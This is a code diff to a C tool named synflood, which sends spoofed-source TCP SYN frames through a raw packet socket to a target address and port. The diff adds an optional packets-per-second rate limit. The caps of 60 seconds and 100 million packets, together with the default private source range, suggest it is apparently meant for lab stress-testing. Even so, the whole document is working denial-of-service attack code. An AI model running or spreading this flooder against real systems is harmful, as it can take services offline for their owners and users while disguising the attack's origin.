@@ -1,10 +1,10 @@
 /*
  * SYNs from spoofed sources, as fast as they go.
  *
- *   synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE]
+ *   synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE [RATE]]
  *
- * Sources are 10.1.0.0/16, or that one, with random ports. Prints how many were sent. Ends after
- * SECONDS (at most 60) or 100 million.
+ * Sources are 10.1.0.0/16 (0.0.0.0), or that one, with random ports; RATE is how many a second, 0
+ * as fast as they go. Prints how many were sent. Ends after SECONDS (at most 60) or 100 million.
  */
 #include <arpa/inet.h>
 #include <linux/if_ether.h>
@@ -16,8 +16,9 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <time.h>
+#include <unistd.h>
 
-enum { FRAME = 14 + 20 + 20, BURST = 64, MOST = 100000000, MOST_S = 60 };
+enum { FRAME = 14 + 20 + 20, BURST = 64, MOST = 100000000, MOST_S = 60, PAUSE_US = 200 };
 
 static uint8_t frames[BURST][FRAME];
 static struct iovec iov[BURST];
@@ -71,23 +72,33 @@ static void fill(uint8_t *frame, const uint8_t mac[6], struct in_addr to, uint16
 	put_sum(tcp + 16, sum(sum(6 + 20, ip + 12, 8), tcp, 20));
 }
 
+static double now(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
 static int usage(void)
 {
 	fprintf(stderr,
-	        "usage: synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE]\n");
+	        "usage: synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE [RATE]]\n");
 	return 2;
 }
 
 int main(int argc, char **argv)
 {
 	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
+	const double rate = argc == 8 ? atof(argv[7]) : 0;
 	unsigned long sent = 0;
+	double started;
 	struct in_addr to;
 	uint8_t mac[6];
 	time_t end;
 	int fd;
 
-	if (argc < 6 || argc > 7 || (argc == 7 && !inet_aton(argv[6], &source)) ||
+	if (argc < 6 || argc > 8 || (argc >= 7 && !inet_aton(argv[6], &source)) ||
 	    !inet_aton(argv[3], &to) ||
 	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
 	           &mac[4], &mac[5]) != 6 ||
@@ -100,9 +111,14 @@ int main(int argc, char **argv)
 		return 1;
 	}
 	end = time(NULL) + atoi(argv[5]);
+	started = now();
 	while (time(NULL) < end && sent < MOST) {
 		int n;
 
+		if (rate > 0 && (double)sent > (now() - started) * rate) {
+			usleep(PAUSE_US);
+			continue;
+		}
 		for (unsigned i = 0; i < BURST; i++) {
 			fill(frames[i], mac, to, (uint16_t)atoi(argv[4]));
 			iov[i] = (struct iovec){frames[i], FRAME};
